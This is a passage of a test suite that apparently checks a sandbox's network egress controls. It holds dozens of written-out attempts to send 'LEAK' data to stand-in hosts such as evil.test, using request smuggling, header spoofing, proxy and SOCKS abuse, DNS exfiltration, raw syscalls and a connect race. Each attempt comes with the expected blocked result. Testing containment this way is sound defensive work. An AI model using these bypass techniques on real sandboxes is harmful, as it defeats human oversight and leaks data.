    ("pipeline-good", OK + "\\r\\n" + OK + "Connection: close\\r\\n\\r\\n", "200 .*200 "),
    ("connection-drops-host", OK + "Connection: close, Host\\r\\n\\r\\n", "200"),
    ("connection-drops-length", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 44\\r\\nConnection: Content-Length\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", ""),
    ("forwarded-host", OK + "X-Forwarded-Host: evil.test\\r\\nConnection: close\\r\\n\\r\\n", "200"),
    ("header-huge", OK + "X: ' + b'a'*70000 + b'\\r\\n\\r\\n", "431|400"),
    ("headers-many", OK + "' + b'X: a\\r\\n'*300 + b'\\r\\n", "431"),
    ("fragment", "GET /#LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
):  # fmt: skip
    python(f"http-{title}", f"http(b'{raw}')", says)
shell("http-redirect", "curl -sS -m 20 -L http://good.test/redirect; echo status $?", "status 6")
shell(
    "http-proxy-variable",
    f"http_proxy=http://{OTHER}:8080 curl -sS -m 20 http://good.test/LEAK; echo status $?",
    "status [1-9]",
)
shell(
    "http-granted-as-proxy",
    "curl -sS -m 20 -x http://good.test:80 http://evil.test/LEAK; echo status $?",
    "evil.test",
)
shell(
    "http-granted-as-connect-proxy",
    "curl -sSk -m 20 -p -x http://good.test:80 https://evil.test/LEAK; echo status $?",
    "status [1-9]",
)
shell(
    "socks-granted",
    "curl -sS -m 20 --socks5-hostname good.test:80 http://evil.test/LEAK; echo status $?",
    "status [1-9]",
)
shell("curl-host-header", "curl -sS -m 20 -H 'Host: evil.test' http://good.test/LEAK", "would allow")
shell(
    "curl-h2c-prior",
    "curl -sS -m 20 --http2-prior-knowledge http://good.test/LEAK; echo status $?",
    "status [1-9]",
)
shell(
    "curl-doh",
    f"curl -sSk -m 20 --doh-url https://{OTHER}/dns-query http://evil.test/LEAK; echo status $?",
    "status [1-9]",
)
shell(
    "curl-interface",
    f"curl -sS -m 20 --interface 10.213.0.2 http://{OTHER}/LEAK; echo status $?",
    "status [1-9]",
)
shell("curl-unset-proxies", f"env -i curl -sS -m 20 http://{OTHER}/LEAK; echo status $?", "status 7")

# -- the proxy of the sandbox itself -----------------------------------------------------------------------------------
for title, raw, says in (
    ("connect-denied", "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\nLEAK", "403"),
    ("connect-port", "CONNECT good.test:22 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nLEAK", "403"),
    ("connect-nul", "CONNECT evil.test\\0.good.test:443 HTTP/1.1\\r\\n\\r\\nLEAK", "400"),
    ("connect-userinfo", "CONNECT good.test@evil.test:443 HTTP/1.1\\r\\n\\r\\nLEAK", "400"),
    ("connect-literal", f"CONNECT {OTHER}:443 HTTP/1.1\\r\\n\\r\\nLEAK", "403"),
    ("connect-decimal", "CONNECT 1572395043:443 HTTP/1.1\\r\\n\\r\\nLEAK", "400"),
    ("connect-loopback", "CONNECT 127.0.0.1:22 HTTP/1.1\\r\\n\\r\\nLEAK", "403"),
    ("connect-mapped", "CONNECT [::ffff:10.1.2.3]:80 HTTP/1.1\\r\\n\\r\\nLEAK", "403"),
    ("connect-private-name", "CONNECT private.test:443 HTTP/1.1\\r\\n\\r\\nLEAK", "403"),
    ("connect-not-tls", "CONNECT good.test:443 HTTP/1.1\\r\\n\\r\\nLEAK and more of it", "x15"),
    ("connect-tcp", "CONNECT other.test:7000 HTTP/1.1\\r\\n\\r\\nfine", "200 [^$]*fine"),
    ("get-denied", "GET http://evil.test/LEAK HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "403"),
    ("get-two-hosts", "GET http://good.test/LEAK HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "400"),
    ("get-second", "GET http://good.test/a HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nGET http://evil.test/LEAK HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "200"),
    ("get-tls-port", "GET http://good.test:443/LEAK HTTP/1.1\\r\\nHost: good.test:443\\r\\n\\r\\n", "403"),
    ("get-relative", "GET /LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
):  # fmt: skip
    python(f"proxy-{title}", f"http(b'{raw}', '198.18.0.3', 3128)", says)
for title, raw, says in (
    ("denied", "\\3\\x09evil.test\\1\\xbb", "x05.x02"),
    ("nul", "\\3\\x13evil.test\\0.good.test\\1\\xbb", "x05.x02"),
    ("literal", "\\1\\x5d\\xb8\\xd8\\x23\\1\\xbb", "x05.x02"),
    ("loopback", "\\1\\x7f\\0\\0\\1\\0\\x16", "x05.x02"),
    ("private-name", "\\3\\x0cprivate.test\\1\\xbb", "x05.x02"),
    ("metadata-text", "\\3\\x0f169.254.169.254\\0P", "x05.x02"),
    ("decimal-text", "\\3\\x0a2852039166\\0P", "x05.x02"),
    ("tcp", "\\3\\x0aother.test\\x1b\\x58", "fine"),
):  # fmt: skip
    python(f"socks-{title}", f"tcp('198.18.0.3', 1080, b'\\5\\1\\0\\5\\1\\0{raw}' + b'fine')", says)
python(
    "socks-udp-associate",
    "tcp('198.18.0.3', 1080, b'\\5\\1\\0\\5\\3\\0\\1\\0\\0\\0\\0\\0\\0')",
    "x05.x02|failed",
)
python("socks-bind", "tcp('198.18.0.3', 1080, b'\\5\\1\\0\\5\\2\\0\\1\\0\\0\\0\\0\\0\\x50')", "x05.x02")
python("socks-4", "tcp('198.18.0.3', 1080, b'\\4\\1\\1\\xbb\\0\\0\\0\\1x\\0evil.test\\0')", "got b''|failed")
shell(
    "proxy-curl",
    "curl -sS -m 20 -x http://198.18.0.3:3128 http://good.test/a http://good.test/b",
    "served /a[^$]*served /b",
)
shell("proxy-curl-tls", "curl -sSk -m 20 -x http://198.18.0.3:3128 https://good.test/", "secure")
shell(
    "proxy-curl-socks",
    "curl -sSk -m 20 -x socks5h://198.18.0.3:1080 https://good.test/ http://good.test/c",
    "secure[^$]*served /c",
)
shell(
    "proxy-curl-denied",
    "curl -sSk -m 20 -x http://198.18.0.3:3128 https://evil.test/LEAK; echo status $?",
    "status [1-9]",
)
shell(
    "proxy-curl-sni",
    "curl -sSk -m 20 -x http://198.18.0.3:3128 --connect-to evil.test:443:good.test:443 https://evil.test/LEAK; echo status $?",
    "status [1-9]",
)

# -- other clients ---------------------------------------------------------------------------------------------------
node(
    "node-literal",
    f"require('net').connect(80, '{OTHER}').on('error', e => console.log('failed', e.code))",
    "failed EACCES",
)
node(
    "node-name",
    "require('http').get('http://evil.test/LEAK').on('error', e => console.log('failed', e.code))",
    "failed ENOTFOUND",
)
node(
    "node-host-header",
    "require('http').get({host:'good.test', path:'/LEAK', headers:{host:'evil.test'}}, r => console.log('status', r.statusCode))",
    "status 421",
)
node(
    "node-servername",
    "require('tls').connect({host:'good.test', port:443, servername:'evil.test', rejectUnauthorized:false}).on('error', e => console.log('failed', e.code))",
    "failed ERR_SSL",
)
node(
    "node-dns-server",
    f"const d=require('dns'); const r=new d.Resolver(); r.setServers(['{OTHER}']); r.resolveTxt('secret.evil.test', e => console.log('failed', e.code))",
    "failed ENOTFOUND",
)
node(
    "node-udp",
    f"const s=require('dgram').createSocket('udp4'); s.on('error', e => console.log('failed', e.code)); s.send('LEAK', 7001, '{OTHER}', () => setTimeout(() => s.close(), 200))",
    "",
)
node(
    "node-lookup-all",
    "require('dns').lookup('good.test', {all:true}, (e, a) => console.log(JSON.stringify(a)))",
    "198.18.1",
)


# -- programs in C and Go ----------------------------------------------------------------------------------------------
def compiled(name: str, source: str, says: str) -> None:
    """An attempt in C, built inside."""
    script = f"cat > /tmp/{name}.c <<'END'\n{C_HEAD}{source}\nEND\ngcc -O1 -pthread -o /tmp/{name} /tmp/{name}.c && /tmp/{name}"
    ATTEMPTS.append(Attempt(name, ["sh", "-c", script], says, "gcc"))


C_HEAD: Final = r"""
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netdb.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>
static struct sockaddr_in at(const char *host, int port) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    struct hostent *h = gethostbyname(host);
    if (h) memcpy(&a.sin_addr, h->h_addr, 4); else inet_pton(AF_INET, host, &a.sin_addr);
    return a;
}
"""
compiled(
    "c-race-of-address",
    r"""
static struct sockaddr_in good, evil, shown;
static volatile int done;
static void *flip(void *x) {
    while (!done) { memcpy(&shown, &evil, sizeof shown); memcpy(&shown, &good, sizeof shown); }
    return x;
}
int main(void) {
    pthread_t t; int refused = 0, made = 0;
    good = at("other.test", 7000); evil = at("93.184.216.35", 7000);
    shown = good; pthread_create(&t, 0, flip, 0);
    for (int n = 0; n < 60; n++) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(s, (void *)&shown, sizeof shown)) refused++; else { made++; send(s, "fine", 4, MSG_NOSIGNAL); }
        close(s);
    }
    done = 1; pthread_join(t, 0);
    printf("refused %d made %d\n", refused, made);
}
""",
    r"refused \d+ made \d+",
)
compiled(
    "c-sendmmsg",
    r"""
int main(void) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in to[2] = {at("other.test", 7001), at("93.184.216.35", 7001)};
    char *text[2] = {"fine", "LEAK"};
    struct iovec v[2] = {{text[0], 4}, {text[1], 4}};
    struct mmsghdr m[2] = {{{&to[0], 16, &v[0], 1}}, {{&to[1], 16, &v[1], 1}}};
    for (int n = 0; n < 5; n++) { int r = sendmmsg(s, m, 2, 0); printf("sent %d errno %d\n", r, errno); usleep(50000); }
}
""",
    "sent",
)
compiled(
    "c-i386-calls",
    r"""
int main(void) {
    unsigned *low = mmap((void *)0x10000, 4096, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    if (low == MAP_FAILED) { puts("no low memory"); return 0; }
    low[0] = AF_INET; low[1] = SOCK_STREAM; low[2] = 0;
    long r = 102;
    fflush(stdout);
    __asm__ volatile("int $0x80" : "+a"(r) : "b"(1L), "c"(low) : "memory");
    printf("socketcall %ld\n", r);
}
""",
    "",
)
compiled(
    "c-x32-calls",
    r"""
int main(void) {
    long r = syscall(0x40000000 | SYS_socket, AF_INET, SOCK_STREAM, 0);
    printf("x32 socket %ld %d\n", r, errno);
    if (r >= 0) { struct sockaddr_in a = at("93.184.216.35", 80); printf("connect %d\n", connect(r, (void *)&a, 16)); }
}
""",
    "",
)
compiled(
    "c-io-uring",
    r"""
int main(void) { char params[120] = {0}; printf("io_uring %ld %d\n", syscall(425, 8, params), errno); }
""",
    "io_uring -1",
)
compiled(
    "c-zero-copy",
    r"""
int main(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    struct sockaddr_in a = at("other.test", 7000);
    setsockopt(s, SOL_SOCKET, 60, &one, sizeof one);
    printf("connect %d\n", connect(s, (void *)&a, sizeof a));
    printf("sent %zd\n", send(s, "fine", 4, 0x4000000));
    char b[9]; printf("got %zd\n", recv(s, b, 9, 0));
}
""",
    "got 4",
)
GO: Final = r"""
package main
import ("fmt"; "net"; "net/http"; "context")
func main() {
    _, err := net.Dial("tcp", "93.184.216.35:80"); fmt.Println("literal", err)
    _, err = http.Get("http://evil.test/LEAK"); fmt.Println("name", err)
    r := net.Resolver{PreferGo: true, Dial: func(c context.Context, n, a string) (net.Conn, error) { return net.Dial("udp", "93.184.216.35:53") }}
    _, err = r.LookupTXT(context.Background(), "secret.evil.test"); fmt.Println("txt", err)
    q, _ := http.NewRequest("GET", "http://good.test/LEAK", nil); q.Host = "evil.test"
    a, err := http.DefaultClient.Do(q); fmt.Println("host", err, a != nil && a.StatusCode == 421)
    g, err := http.Get("http://good.test/ok"); fmt.Println("granted", err, g != nil && g.StatusCode == 200)
}
"""
shell(
    "go-clients",
    f"mkdir -p /tmp/go && cd /tmp/go && cat > m.go <<'END'\n{GO}\nEND\n"
    "HOME=/tmp GOTOOLCHAIN=local GOFLAGS=-mod=mod GO111MODULE=off timeout 55 go run m.go; echo over",
    "over",
    "go",
)
